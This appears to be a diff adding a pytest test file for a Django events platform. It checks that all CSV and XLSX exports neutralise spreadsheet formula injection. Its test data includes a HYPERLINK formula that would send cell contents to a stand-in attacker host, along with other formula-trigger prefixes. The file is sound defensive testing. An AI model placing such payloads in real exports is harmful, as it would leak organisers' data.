@@ -1,0 +1,100 @@
+"""Every CSV and XLSX file the product hands out goes through one writer
+(events_platform/exports.py), and that writer neutralises cells a spreadsheet would run as a
+formula: a visitor named "=HYPERLINK(...)" is text in the organiser's spreadsheet, in every
+export."""
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.conf import settings
+
+from events_platform.models import Membership
+from tests.checkin.factories import DoorEventFactory, make_ticket
+from tests.factories import MembershipFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("https://evil.example/?d="&A1;"Details")',
+    "+49 Anruf",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\tTabulator",
+]
+
+# Every export of the product: (URL pattern, how to read the file). The source check below
+# fails when a module calls the writer that this list does not cover.
+EXPORTS = {
+    "ticketing/views/organiser.py": [
+        ("/tickets/organiser/{pk}/export.csv", "csv"),
+        ("/tickets/organiser/{pk}/export.xlsx", "xlsx"),
+    ],
+    "ticketing/api.py": [
+        ("/api/tickets/organiser/events/{pk}/registrations/export/", "csv"),
+        ("/api/tickets/organiser/events/{pk}/registrations/export/?file_format=xlsx", "xlsx"),
+    ],
+    "ticketing/checkin/views_organiser.py": [
+        ("/einlass/events/{pk}/attendance.csv", "csv"),
+    ],
+}
+
+WRITER_MODULE = "events_platform/exports.py"
+# Writing a CSV or XLSX file anywhere else bypasses the neutralising.
+FORBIDDEN = re.compile(r"csv\.writer|csv\.DictWriter|\bopenpyxl\b|\bxlsxwriter\b|\bWorkbook\(")
+WRITER_CALL = re.compile(r"\b(csv_bytes|xlsx_bytes)\(")
+
+
+def _sources():
+    root = Path(settings.BASE_DIR)
+    for path in sorted(root.rglob("*.py")):
+        relative = path.relative_to(root).as_posix()
+        if relative.split("/")[0] in {".venv", "tests", "node_modules", "frontend", "scripts"}:
+            continue
+        yield relative, path.read_text(encoding="utf-8")
+
+
+def _cells(response, kind):
+    if kind == "csv":
+        text = response.content.decode("utf-8-sig")
+        return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]
+
+
+def test_no_module_but_the_writer_writes_csv_or_xlsx():
+    outside = [
+        name for name, text in _sources() if name != WRITER_MODULE and FORBIDDEN.search(text)
+    ]
+    assert outside == []
+
+
+def test_every_module_that_exports_is_covered_here():
+    callers = {
+        name for name, text in _sources() if name != WRITER_MODULE and WRITER_CALL.search(text)
+    }
+    assert callers == set(EXPORTS)
+
+
+def test_every_export_writes_formula_names_as_text(client):
+    event = DoorEventFactory()
+    for n, name in enumerate(HOSTILE_NAMES):
+        make_ticket(event, n, name=name)
+    organiser = MembershipFactory(
+        organisation=event.organisation, role=Membership.Role.ORGANISER_ADMIN
+    )
+    client.force_login(organiser.user)
+
+    urls = [
+        (url.format(pk=event.pk), kind) for exports in EXPORTS.values() for url, kind in exports
+    ]
+    for url, kind in urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        cells = [cell for cell in _cells(response, kind) if isinstance(cell, str)]
+        for name in HOSTILE_NAMES:
+            assert "'" + name in cells, (url, name)
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))], url
